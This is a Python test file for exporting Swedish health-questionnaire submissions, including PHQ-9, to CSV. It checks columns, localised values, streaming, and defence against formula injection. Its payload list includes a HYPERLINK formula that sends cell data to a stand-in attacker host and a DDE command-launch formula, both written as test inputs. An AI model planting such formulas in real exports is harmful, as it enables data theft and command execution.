"""CSV export: columns, values as people saw them, Swedish Excel conventions, formula injection
(ASVS 5.0 1.2.10, security brief test #19) and constant-memory streaming."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import itertools
import tracemalloc
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from formular.definitions.service import CompiledDefinition
from formular.interop.csv_export import _formatter
from formular.interop.service import BOM, ExportRow, columns, neutralise, stream_csv

from .conftest import PHQ9_MODERATE, SHOWCASE_FULL, SUMMER, submission


def read(text: str, delimiter: str = ";") -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM):], newline=""), delimiter=delimiter))


def export(compiled: CompiledDefinition, rows: list[ExportRow], **options: object
           ) -> list[dict[str, str]]:
    """Rows keyed by column key (the header row is checked separately)."""
    text = "".join(stream_csv(compiled, rows, header="key", **options))  # type: ignore[arg-type]
    delimiter = str(options.get("delimiter", ";"))
    header, *body = read(text, delimiter)
    assert len(set(header)) == len(header), "column keys are unique"
    return [dict(zip(header, line, strict=True)) for line in body]


# -- columns ------------------------------------------------------------------------------------


def test_phq9_columns_fixed_then_matrix_rows_with_codes_then_score_and_flags(
        phq9: CompiledDefinition) -> None:
    keys = [column.key for column in columns(phq9)]
    assert keys == [
        "citizen.personnummer", "citizen.name", "submission.receipt",
        "submission.submitted_at", "submission.answered_by", "submission.status",
        *itertools.chain.from_iterable((f"phq{n}", f"phq{n}.code") for n in range(1, 10)),
        "phq10", "phq10.code", "score.phq-9", "score.phq-9.band", "submission.flags",
    ]


def test_phq9_header_row_uses_labels_in_swedish(phq9: CompiledDefinition) -> None:
    text = "".join(stream_csv(phq9, []))
    (header,) = read(text)
    assert header[:6] == ["Personnummer", "Namn", "Kvittensnummer", "Inskickat", "Besvarat av",
                          "Status"]
    assert header[6] == "1. Lite intresse eller glädje i att göra saker"
    assert header[7] == "1. Lite intresse eller glädje i att göra saker (kod)"
    assert header[-3:] == ["PHQ-9 totalpoäng", "PHQ-9 totalpoäng – nivå", "Flaggor"]


def test_english_fixed_words(phq9: CompiledDefinition) -> None:
    (header,) = read("".join(stream_csv(phq9, [], language="en")))
    assert header[:3] == ["Personal identity number", "Name", "Receipt number"]
    assert header[-1] == "Flags"


def test_group_is_flattened_up_to_max_items(showcase: CompiledDefinition) -> None:
    keys = [column.key for column in columns(showcase)]
    children = ("drug", "dose_mg", "as_needed", "as_needed_reason")
    expected = [f"medications[{n}].{child}" for n in range(1, 6) for child in children]
    start = keys.index("medications[1].drug")
    assert keys[start:start + len(expected)] == expected
    assert "medications" not in keys
    assert "intro_text" not in keys  # information blocks have no answer


def test_citizen_audience_leaves_out_staff_items_and_hidden_scores(
        showcase: CompiledDefinition) -> None:
    staff = {column.key for column in columns(showcase)}
    citizen = {column.key for column in columns(showcase, audience="citizen")}
    assert "staff_note" in staff
    assert "staff_note" not in citizen
    assert {"score.stress", "score.wellbeing-score"} <= citizen
    assert "score.symptom-count" not in citizen


# -- values -------------------------------------------------------------------------------------


def test_phq9_row_shows_labels_codes_score_band_and_flag(phq9: CompiledDefinition) -> None:
    (row,) = export(phq9, [submission(phq9, PHQ9_MODERATE)])
    assert row["citizen.personnummer"] == "19121212-1212"
    assert row["citizen.name"] == "Tolvan Tolvansson"
    assert row["submission.receipt"] == "7F3A9C21-B00C"
    assert row["submission.submitted_at"] == "2025-01-15 09:30:05"  # CET
    assert row["submission.status"] == "inkommen"
    assert row["phq1"] == "Mer än hälften av dagarna"
    assert row["phq1.code"] == "2"
    assert row["phq5"] == "Inte alls"
    assert row["phq5.code"] == "0"
    assert row["phq10.code"] == "ganska-svart"
    assert row["score.phq-9"] == "11"
    assert row["score.phq-9.band"] == "Måttliga symtom"
    assert row["submission.flags"] == (
        "Fråga 9: tankar på att vara död eller att skada sig själv – "
        "gör en suicidriskbedömning (kritisk)")


def test_hidden_question_and_missing_score_are_empty(phq9: CompiledDefinition) -> None:
    answers = {f"phq{n}": 0 for n in range(1, 9)}  # phq9 missing: no total
    (row,) = export(phq9, [submission(phq9, answers)])
    assert row["phq10"] == ""
    assert row["phq10.code"] == ""
    assert row["phq9"] == ""
    assert row["score.phq-9"] == ""
    assert row["score.phq-9.band"] == ""
    assert row["submission.flags"] == ""


def test_showcase_row_every_item_type(showcase: CompiledDefinition) -> None:
    (row,) = export(showcase, [submission(showcase, SHOWCASE_FULL, submitted_at=SUMMER)])
    assert row["submission.submitted_at"] == "2025-07-02 00:15:00"  # CEST, the next day
    assert row["birth_date"] == "1970-05-05"
    assert row["contact_way"] == "E-post"
    assert row["contact_way.code"] == "email"
    assert row["smoking"] == "Nej, har slutat"
    assert row["smoking.code"] == "former"
    assert row["quit_year"] == "1999"
    assert row["cigarettes"] == ""  # hidden for a former smoker
    assert row["weight"] == "72,5"
    assert row["height"] == "180"
    assert row["bmi"] == "22,4"  # calculated, a number with a decimal comma
    assert row["symptoms"] == "Smärta, Sömnproblem"
    assert row["symptoms.code"] == "pain, sleep"
    assert row["wellbeing"] == "2"
    # matrix rows, each its own column
    assert row["stress_1"] == "Stämmer helt"
    assert row["stress_1.code"] == "5"
    assert row["stress_2"] == "Stämmer inte alls"
    assert row["stress_2.code"] == "1"
    assert row["stress_3"] == "Stämmer ganska bra"
    assert row["stress_3.code"] == "4"
    # yes/no in words
    assert row["has_medication"] == "Ja"
    assert row["consent"] == "Ja"
    # the repeating group
    assert row["medications[1].drug"] == "Alvedon"
    assert row["medications[1].dose_mg"] == "500"
    assert row["medications[1].as_needed"] == "Ja"
    assert row["medications[1].as_needed_reason"] == "Huvudvärk"
    assert row["medications[2].drug"] == "Levaxin"
    assert row["medications[2].dose_mg"] == "0,1"
    assert row["medications[2].as_needed"] == "Nej"
    assert row["medications[2].as_needed_reason"] == ""
    assert all(row[f"medications[{n}].drug"] == "" for n in (3, 4, 5))
    assert row["staff_note"] == "Ring upp i veckan."
    assert row["score.stress"] == "14"
    assert row["score.stress.band"] == "Hög stress"
    assert row["score.stress-mean"] == "4,7"
    assert row["submission.flags"] == (
        "Mår mycket dåligt: kontakta personen (hög); Hög stress (måttlig)")


def test_files_are_listed_by_name(showcase: CompiledDefinition) -> None:
    row = submission(showcase, SHOWCASE_FULL)
    answers = dict(row.answers, photo=[{"token": "t", "name": "intyg.pdf", "size": 10},
                                       {"token": "u", "name": "bild.png", "size": 20}])
    (line,) = export(showcase, [dataclasses.replace(row, answers=answers)])
    assert line["photo"] == "intyg.pdf, bild.png"


def test_naive_times_are_taken_as_utc(phq9: CompiledDefinition) -> None:
    row = submission(phq9, PHQ9_MODERATE, submitted_at=SUMMER.replace(tzinfo=None))
    (line,) = export(phq9, [row])
    assert line["submission.submitted_at"] == "2025-07-02 00:15:00"


def test_empty_scores_document_and_missing_personnummer(phq9: CompiledDefinition) -> None:
    row = ExportRow(personnummer=None, name=None, receipt="R-1", submitted_at=None,
                    answers={"phq1": 1}, scores={})
    (line,) = export(phq9, [row])
    assert line["citizen.personnummer"] == ""
    assert line["submission.submitted_at"] == ""
    assert line["phq1"] == "Flera dagar"
    assert line["score.phq-9"] == ""
    assert line["submission.flags"] == ""


def test_unknown_option_value_is_shown_as_stored(phq9: CompiledDefinition) -> None:
    row = ExportRow(personnummer=None, name=None, receipt="R-1", submitted_at=None,
                    answers={"phq1": 7, "phq10": ["odd"]})
    (line,) = export(phq9, [row])
    assert line["phq1"] == "7"
    assert line["phq1.code"] == "7"
    assert line["phq10"] == "['odd']"


# -- format -------------------------------------------------------------------------------------


def test_bom_only_at_the_very_start_and_crlf_rows(phq9: CompiledDefinition) -> None:
    rows = [submission(phq9, PHQ9_MODERATE)] * 3
    chunks = list(stream_csv(phq9, rows, rows_per_chunk=1))
    assert chunks[0].startswith(BOM)
    assert sum(chunk.count(BOM) for chunk in chunks) == 1
    assert len(chunks) == 4  # header, then one chunk per row
    assert all(chunk.endswith("\r\n") for chunk in chunks)
    assert "".join(chunks).encode("utf-8").startswith(b"\xef\xbb\xbfPersonnummer;")
    assert not "".join(stream_csv(phq9, rows, bom=False)).startswith(BOM)


@pytest.mark.parametrize(("delimiter", "decimal"), [(";", "72,5"), (",", "72.5"), ("\t", "72.5")])
def test_delimiter_and_decimal_separator(showcase: CompiledDefinition, delimiter: str,
                                         decimal: str) -> None:
    (row,) = export(showcase, [submission(showcase, SHOWCASE_FULL)], delimiter=delimiter)
    assert row["weight"] == decimal
    assert row["symptoms"] == "Smärta, Sömnproblem"  # quoted when it holds the delimiter


def test_decimal_separator_can_be_chosen(showcase: CompiledDefinition) -> None:
    (row,) = export(showcase, [submission(showcase, SHOWCASE_FULL)], decimal_comma=False)
    assert row["weight"] == "72.5"


@pytest.mark.parametrize("delimiter", ["", ";;", "\"", "\n", "=", "'", "a", "-"])
def test_unusable_delimiters_are_refused(phq9: CompiledDefinition, delimiter: str) -> None:
    with pytest.raises(ValueError, match="delimiter"):
        next(stream_csv(phq9, [], delimiter=delimiter))


def test_key_header(phq9: CompiledDefinition) -> None:
    (header,) = read("".join(stream_csv(phq9, [], header="key")))
    assert header[:7] == ["citizen.personnummer", "citizen.name", "submission.receipt",
                          "submission.submitted_at", "submission.answered_by",
                          "submission.status", "phq1"]


# -- formula injection --------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "|calc",
    "%APPDATA%",
    "=cmd|' /C calc'!A0",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_injection_in_answers_is_neutralised(showcase: CompiledDefinition,
                                                     payload: str) -> None:
    answers = dict(SHOWCASE_FULL, other=payload,
                   medications=[{"drug": payload, "as_needed": False}])
    row = submission(showcase, answers)
    assert row.answers["other"] == payload  # stored as typed
    (line,) = export(showcase, [dataclasses.replace(
        row, name=payload, answered_by=payload, status=payload)])
    for key in ("other", "medications[1].drug", "citizen.name", "submission.answered_by",
                "submission.status"):
        assert line[key] == "'" + payload, key


def test_numbers_stay_numbers_but_number_like_text_is_neutralised(
        showcase: CompiledDefinition) -> None:
    row = submission(showcase, SHOWCASE_FULL)
    answers = dict(row.answers, quit_year=-2, weight=-72.5, other="-2", pain_where="+46701234567")
    (line,) = export(showcase, [dataclasses.replace(row, answers=answers)])
    assert line["quit_year"] == "-2"  # an integer answer: a number
    assert line["weight"] == "-72,5"  # a decimal answer: a number
    assert line["other"] == "'-2"  # text that looks like a number: text
    assert line["pain_where"] == "'+46701234567"


def test_designer_labels_in_the_header_are_neutralised(phq9: CompiledDefinition) -> None:
    document = dict(phq9.document)
    document["scores"] = [dict(document["scores"][0], label="=1+1")]
    from formular.definitions.service import compile_definition

    compiled = compile_definition(document)
    (header,) = read("".join(stream_csv(compiled, [])))
    assert "'=1+1" in header
    assert "=1+1" not in header


def test_neutralise() -> None:
    assert neutralise("=1") == "'=1"
    assert neutralise("") == ""
    assert neutralise("Åsa") == "Åsa"
    assert neutralise("'=1") == "'=1"  # already quoted: read back as text anyway
    assert neutralise("a=1") == "a=1"


@settings(max_examples=200, deadline=None)
@given(text=st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=40))
def test_any_text_round_trips_as_literal_text(phq9: CompiledDefinition, text: str) -> None:
    row = ExportRow(personnummer=None, name=text, receipt="R", submitted_at=None)
    (line,) = export(phq9, [row])
    assert line["citizen.name"] in (text, "'" + text)
    assert line["citizen.name"][:1] not in set("=+-@\t\r\n\0|%")


# -- streaming ----------------------------------------------------------------------------------


def _many(compiled: CompiledDefinition, count: int, drawn: list[int]) -> Iterator[ExportRow]:
    template = submission(compiled, PHQ9_MODERATE)
    for number in range(count):
        drawn[0] += 1
        yield dataclasses.replace(template, receipt=f"R-{number:06d}",
                                  answers=dict(template.answers))


def test_stream_draws_rows_lazily(phq9: CompiledDefinition) -> None:
    drawn = [0]
    chunks = stream_csv(phq9, _many(phq9, 20_000, drawn), rows_per_chunk=100)
    next(chunks)
    assert drawn[0] == 0  # the header comes before the first row is asked for
    next(chunks)
    assert drawn[0] == 100


def _peak_while_streaming(compiled: CompiledDefinition, count: int) -> tuple[int, int, int]:
    """(peak bytes allocated, characters written, lines written) while streaming ``count``
    rows and throwing every chunk away, as a web response does."""
    drawn = [0]
    size = lines = 0
    tracemalloc.start()
    try:
        for chunk in stream_csv(compiled, _many(compiled, count, drawn)):
            size += len(chunk)
            lines += chunk.count("\r\n")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert drawn[0] == count
    return peak, size, lines


def test_twenty_thousand_rows_in_constant_memory(phq9: CompiledDefinition) -> None:
    small_peak, _size, _lines = _peak_while_streaming(phq9, 2_000)
    peak, size, lines = _peak_while_streaming(phq9, 20_000)
    assert lines == 20_001
    assert size > 5_000_000  # several megabytes of CSV went through...
    assert peak < 2_500_000  # ...while one chunk of 500 rows was held at a time,
    assert peak < small_peak * 1.25 + 100_000  # and ten times the rows took no more memory.


# -- the fast path agrees with the columns' own getters ------------------------------------------


def test_fast_path_matches_the_typed_columns(showcase: CompiledDefinition) -> None:
    rows = [
        submission(showcase, SHOWCASE_FULL),
        submission(showcase, dict(SHOWCASE_FULL, smoking="daily", cigarettes=20,
                                  symptoms=["none"], medications=None, has_medication=False)),
        submission(showcase, {"name": "Bo", "birth_date": "2012-01-01", "smoking": "never",
                              "wellbeing": 5, "consent": True}),
    ]
    cols = columns(showcase)
    cell = _formatter(True)
    expected = [[("" if v is None else str(v)) for v in (cell(c.get(row)) for c in cols)]
                for row in rows]
    text = "".join(stream_csv(showcase, rows, rows_per_chunk=2))
    assert read(text)[1:] == expected


@pytest.mark.parametrize(("utc", "local"), [
    ((2025, 3, 30, 0, 59, 59), "2025-03-30 01:59:59"),  # the last second of winter time
    ((2025, 3, 30, 1, 0, 0), "2025-03-30 03:00:00"),  # clocks go forward
    ((2025, 10, 26, 0, 59, 59), "2025-10-26 02:59:59"),  # the last second of summer time
    ((2025, 10, 26, 1, 0, 0), "2025-10-26 02:00:00"),  # clocks go back
])
def test_times_across_daylight_saving_changes(phq9: CompiledDefinition,
                                              utc: tuple[int, ...], local: str) -> None:
    for submitted in (dt.datetime(*utc), dt.datetime(*utc, tzinfo=dt.UTC)):
        row = ExportRow(personnummer=None, name=None, receipt="R", submitted_at=submitted)
        (line,) = export(phq9, [row])
        assert line["submission.submitted_at"] == local


def test_any_choice_of_columns_in_any_order(phq9: CompiledDefinition) -> None:
    cols = columns(phq9)
    by_key = {column.key: column for column in cols}
    picked = [by_key[key] for key in ("submission.receipt", "phq9", "score.phq-9.band",
                                      "citizen.personnummer", "submission.flags", "phq9.code")]
    text = "".join(stream_csv(phq9, [submission(phq9, PHQ9_MODERATE)], cols=picked))
    header, line = read(text)
    assert header[0] == "Kvittensnummer"
    assert line == ["7F3A9C21-B00C", "Flera dagar", "Måttliga symtom", "19121212-1212",
                    "Fråga 9: tankar på att vara död eller att skada sig själv – "
                    "gör en suicidriskbedömning (kritisk)", "1"]
